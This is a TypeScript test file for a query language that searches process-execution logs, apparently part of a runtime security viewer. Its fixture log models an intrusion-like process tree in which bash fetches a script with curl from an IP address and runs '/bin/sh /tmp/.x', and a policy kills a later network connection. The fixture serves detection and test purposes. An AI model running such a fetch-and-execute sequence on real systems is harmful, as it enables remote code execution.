import fc from 'fast-check'
import { expect, test } from 'vitest'
import { parseQuery } from '../../query/parse'
import { printQuery } from '../../query/print'
import { REFERENCE } from '../../query/reference'
import { FIELDS, RELATIONS } from '../../query/fields'
import type { Query } from '../../query/ast'
import { wireLogs } from '../../testing/arbitrary-events'
import { queries } from '../../testing/arbitrary-queries'
import { loadDrawing, loadLines } from '../../testing/load-log'
import { slowMatches } from '../../testing/slow-query'
import { resolve, type Resolved } from '../resolve'
import type { Store } from '../../model/store'
import { matchQuery, matchSteps } from './match-query'
import { loadRegExp } from './regexp'

const compile = await loadRegExp()

const LOG = loadDrawing(`
  pod default/xwing container 1fb931d2 name app image nginx:1 node n1 workload Deployment/xwing
    10 /bin/bash 0s..9s cpid 1
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22 uid 1000
      12 /bin/sh /tmp/.x 3s..8s SIGTERM
        13 /usr/bin/id 3.5s..3.6s
        14 /usr/bin/curl -o "a b" 4s..
          * 4.5s tcp_connect policy net action SIGKILL
  pod payments/worker-0 container 836e5ba9 node n2
    20 /opt/worker 0s.. cwd /srv
      21 /usr/bin/psql -c select 6s..7s exit 127
      22@same /bin/true 7s..8s
  host n1
    1 /usr/lib/systemd/systemd -3600s.. procFS
      2 /usr/sbin/sshd 0s.. auid 1000
`)

function find(text: string): string[] {
  const { query, error } = parseQuery(text)
  if (query === undefined) throw new Error(error?.message)
  const matches = matchQuery({ ...LOG, compile }, query)
  if (matches === undefined) return ['everything']
  return [...matches.isMatch.entries()].filter(([, match]) => match === 1).map(([row]) => LOG.keyOf(row))
}

test.each([
  ['', 'everything'],
  ['curl', '11 14'],
  ['CURL -S', '11'],
  ['default/x', '10 11 12 13 14'],
  ['"a b"', '14'],
  ['binary:curl', '11 14'],
  ['binary:/usr/bin/curl', '11 14'],
  ['binary:/usr/bin/*', '11 13 14 21'],
  ['binary:CURL', ''],
  ['name:?sql', '21'],
  ['name:(sh,bash)', '10 12'],
  ['args:/tmp/.x', '12'],
  ['args:*.x', '12'],
  ['args:""', '10 13 20 same 1 2'],
  ['args~"https?://"', '11'],
  ['binary~"(?i)CURL$"', '11 14'],
  ['cwd:/srv', '20'],
  ['pid:1', '1'],
  ['pid:10..12', '10 11 12'],
  ['uid:1000', '11'],
  ['auid:1000', '2'],
  ['flags:procFS', '1'],
  ['exit:(22,127)', '11 21'],
  ['exit:>0', '11 21'],
  ['exit:0', '10 13 same'],
  ['-exit:0', '11 12 21'],
  ['exit:!=0', '11 12 21'],
  ['not exit:0', '11 12 21'],
  ['signal:term', '12'],
  ['signal:SIGTERM', '12'],
  ['signal:*', '12'],
  ['signal:""', '10 11 13 21 same'],
  ['outcome:running', '20 1 2'],
  ['outcome:attention', '14 21'],
  ['outcome:nonzero', '11'],
  ['outcome:signal', '12'],
  ['duration:>1.5s', '10 12'],
  ['duration:1s', '11 21 same'],
  ['start:2024-05-01T10:00:03..2024-05-01T10:00:04', '12 13 14'],
  ['start:<2024-05-01', ''],
  ['start:<2024-05-01T10', '1'],
  ['end:2024-05-01T10:00:08', '12 same'],
  ['namespace:pay*', '20 21 same'],
  ['pod:xwing', '10 11 12 13 14'],
  ['pod:default/xwing curl', '11 14'],
  ['pod:""', '1 2'],
  ['-pod:xwing', '20 21 same 1 2'],
  ['workload:Deployment/xwing id', '13'],
  ['container:app id', '13'],
  ['container:836e* psql', '21'],
  ['image:nginx:1 id', '13'],
  ['node:n2', '20 21 same'],
  ['depth:3', '13 14'],
  ['children:>=2', '10 12 20'],
  ['entry:init', '10'],
  ['event:kprobe', '14'],
  ['function:tcp_*', '14'],
  ['policy:net', '14'],
  ['-policy:* curl', '11'],
  ['action:sigkill', '14'],
  ['inferred:yes', ''],
  ['under:(binary:sh)', '13 14'],
  ['above:(curl)', '10 12'],
  ['child:(name:bash)', '11 12'],
  ['parent:(exit:127)', '20'],
  ['-under:(bash) -pod:""', '10 20 21 same'],
  ['curl or id pod:xwing', '11 13 14'],
  ['curl (exit:22 or function:tcp_connect)', '11 14'],
])('%s finds %s', (text, keys) => {
  expect(find(text).toSorted()).toEqual(keys.split(' ').filter(Boolean).toSorted())
})

test('modes keep ancestors, whole subtrees, or all', () => {
  const kept = (mode: 'ancestors' | 'subtrees' | 'dim'): string[] => {
    const { isKept } = matchQuery({ ...LOG, compile }, parseQuery('name:sh').query!, mode)!
    return [...isKept.entries()]
      .filter(([row, keep]) => keep === 1 && LOG.resolved.isShown[row] === 1)
      .map(([row]) => LOG.keyOf(row))
      .toSorted()
  }
  expect(kept('ancestors')).toEqual(['10', '12'])
  expect(kept('subtrees')).toEqual(['10', '12', '13', '14'])
  expect(kept('dim')).toHaveLength(10)
})

function expectAgreement(store: Store, resolved: Resolved, query: Query): void {
  const matches = matchQuery({ store, resolved, compile }, query)
  const isMatch = matches?.isMatch ?? resolved.isShown
  const rows = [...isMatch.entries()].filter(([, match]) => match === 1).map(([row]) => row)
  expect([printQuery(query), ...rows]).toEqual([printQuery(query), ...slowMatches(store, resolved, query)])
  expect(matches?.count ?? rows.length).toBe(rows.length)
}

test('the slow evaluator agrees on random logs and random queries', () => {
  fc.assert(
    fc.property(wireLogs, fc.array(queries, { minLength: 1, maxLength: 8 }), (events, all) => {
      const store = loadLines(events.map((event) => JSON.stringify(event)))
      const resolved = resolve(store)
      for (const query of all) expectAgreement(store, resolved, query)
    }),
    { numRuns: 400 },
  )
})

test('of many processes, what is found of the first ones comes first', () => {
  const lines = Array.from({ length: 1400 }, (_, i) =>
    JSON.stringify({
      process_exec: { process: { exec_id: `id-${i}`, pid: i, binary: i % 10 === 7 ? '/bin/curl' : '/bin/sh' } },
    }),
  )
  const store = loadLines(lines)
  const steps = matchSteps({ store, resolved: resolve(store), compile }, parseQuery('curl').query!, 'ancestors', 300)
  const first = [...steps].find((matches) => matches !== undefined)
  const rows = (matches: { isMatch: Uint8Array }): number[] =>
    [...matches.isMatch.entries()].filter(([, match]) => match === 1).map(([row]) => row)
  const whole = rows(matchQuery({ store, resolved: resolve(store), compile }, parseQuery('curl').query!)!)
  expect(whole).toHaveLength(140)
  expect(rows(first!)).toEqual(whole.filter((row) => row < 300))
})

test('a regular expression that takes long pauses every few texts', () => {
  const lines = Array.from({ length: 400 }, (_, i) =>
    JSON.stringify({ process_exec: { process: { exec_id: `id-${i}`, pid: i, binary: '/x', arguments: `${i}` } } }),
  )
  const store = loadLines(lines)
  const query = parseQuery('args~"(a?){500}b"').query!
  expect([...matchSteps({ store, resolved: resolve(store), compile }, query, 'dim')].length).toBeGreaterThan(5)
})

const EXAMPLES = [
  ...REFERENCE.flatMap(({ entries }) => entries.flatMap(({ examples }) => examples)),
  ...[...FIELDS, ...RELATIONS].flatMap(({ examples }) => [...examples]),
]

test.each(EXAMPLES)('the example %s finds what the slow evaluator finds', (example) => {
  expectAgreement(LOG.store, LOG.resolved, parseQuery(example).query!)
})
